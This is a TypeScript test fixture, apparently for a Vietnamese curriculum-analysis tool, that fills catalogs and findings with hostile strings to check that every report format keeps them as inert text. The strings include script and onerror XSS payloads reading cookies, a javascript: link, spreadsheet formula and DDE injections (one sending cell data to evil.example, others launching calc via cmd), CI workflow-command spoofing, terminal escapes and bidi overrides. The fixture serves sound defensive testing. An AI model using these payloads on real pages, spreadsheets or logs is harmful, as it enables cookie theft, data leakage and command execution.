import { bilingual } from '../helpers/bilingual.js';
import { analyze } from '../../src/analysis.js';
import type { Finding } from '../../src/findings/finding.js';
import type { Catalog } from '../../src/model/catalog.js';
import type { ReportInput } from '../../src/report/report-input.js';
import { type ProgrammeSpec, makeCatalog } from '../helpers/catalog.js';

/**
 * Text a curriculum file can hold that each output format must keep as text: markdown and
 * HTML that would render, mentions that would notify, workflow-command syntax, terminal
 * escapes, "Trojan Source" bidi overrides, spreadsheet formulas, SARIF placeholders.
 */
export const hostile = {
  pipe: 'Quản lý | nhà nước || cấp xã',
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(document.cookie)>',
  mention: '@octocat và @github/security-team',
  link: '[bấm vào đây](javascript:alert(1)) `mã` ```',
  percent: '100% %0A %25 %3A',
  lines: 'dòng một\r\ndòng hai\rdòng ba\n::error::dòng giả mạo',
  esc: '\u001b[31mĐỎ\u001b[0m \u001b]0;tiêu đề\u0007 \u009b2J',
  bidi: 'tệp\u202egpj.exe\u202c \u2066ẩn\u2069',
  formula: '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3+cmd',
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  command: '::error file=x.yaml,line=1::giả mạo',
  braces: '{0} {{1}} }',
} as const;

/** Every hostile string in one text. */
export const allHostile = Object.values(hostile).join(' ');

/** File names with what URIs, workflow-command properties and terminals treat specially. */
export const hostileFiles = {
  programme: 'thư mục/<script>, a:b #1 %41 @x.yaml',
  framework: "=cmd|'/C calc'!A0.yaml",
  broken: 'dòng\nmới\u001b[2J\u202e.yaml',
} as const;

/** A shared module whose title and topics are hostile, so overlaps carry the text too. */
const sharedModule = {
  id: 'lich-su',
  title: hostile.formula,
  hours: 30,
  topics: [
    `Lịch sử Đảng ${hostile.pipe}`,
    `Đảng ra đời ${hostile.script}`,
    `Lãnh đạo kháng chiến ${hostile.mention}`,
    `${hostile.plus} Đổi mới`,
  ],
};

const programmes: ProgrammeSpec[] = [
  { id: '=1+1', level: 'so-cap', modules: [sharedModule, { id: 'x', title: hostile.img }] },
  {
    id: '@prog|x',
    level: 'trung-cap',
    modules: [
      { ...sharedModule, id: '-lich-su|@octocat', hours: 40 },
      { id: 'y', title: `${hostile.link} ${hostile.esc}` },
    ],
  },
];

function hostileCatalog(): Catalog {
  const base = makeCatalog(programmes);
  const levelTitle = (ref: string) =>
    ref.endsWith('so-cap') ? `${hostile.minus} ${hostile.bidi}` : `${hostile.at} ${hostile.pipe}`;
  const levels = new Map(
    [...base.levels].map(([ref, l]) => [ref, { ...l, title: levelTitle(ref) }]),
  );
  return {
    ...base,
    framework: { ...base.framework, title: hostile.command },
    tracks: base.tracks.map((t) => ({
      ...t,
      title: `${hostile.tab} ${hostile.lines}`,
      levels: t.levels.map((l) => levels.get(l.ref) ?? l),
    })),
    levels,
    programmes: base.programmes.map((p, i) => ({
      ...p,
      title: i === 0 ? hostile.plus : `${hostile.script} ${hostile.img}`,
      file: hostileFiles.programme,
    })),
  };
}

/** Findings of every severity, a known rule and an unknown one, with hostile text everywhere. */
export function hostileFindings(): Finding[] {
  return [
    {
      rule: 'module-overlap',
      severity: 'warning',
      message: bilingual(
        `Hai mô-đun trùng lặp: ${allHostile}`,
        `Two modules overlap: ${allHostile}`,
      ),
      file: hostileFiles.programme,
      line: 12,
      column: 5,
      endLine: 14,
      endColumn: 9,
      related: [
        {
          file: hostileFiles.framework,
          line: 3,
          column: 1,
          message: bilingual(
            `${hostile.lines} ${hostile.esc}`,
            `${hostile.command} ${hostile.bidi}`,
          ),
        },
      ],
      about: ['module:=1+1/lich-su', 'module:@prog|x/-lich-su|@octocat'],
    },
    {
      rule: 'yaml-syntax',
      severity: 'error',
      message: bilingual(
        `${hostile.formula}\n${hostile.lines}`,
        `${hostile.percent} ${hostile.braces}`,
      ),
      file: hostileFiles.broken,
      line: 2,
      column: 1,
    },
    {
      rule: 'missing-level',
      severity: 'info',
      message: bilingual(`${hostile.mention} ${hostile.link}`, `${hostile.script} ${hostile.img}`),
      file: hostileFiles.framework,
      line: 1,
      column: 1,
      about: ['level:t/so-cap'],
    },
    {
      rule: 'no-such-rule<script>',
      severity: 'warning',
      message: bilingual(hostile.tab, hostile.at),
      file: hostileFiles.framework,
      line: 0,
      column: 0,
    },
  ];
}

/** A valid repository analysed, whose text is hostile throughout. */
export function hostileInput(): ReportInput {
  const catalog = hostileCatalog();
  const analysis = analyze(catalog, []);
  return {
    analysis,
    findings: hostileFindings(),
    stats: { files: 3, programmes: 2, modules: 4, hours: 100 },
    skipped: [hostileFiles.broken],
  };
}

/** Invalid input: hostile findings and no analysis. */
export function hostileInvalidInput(): ReportInput {
  return {
    analysis: undefined,
    findings: hostileFindings(),
    stats: { files: 3, programmes: 0, modules: 0, hours: 0 },
    skipped: [],
  };
}
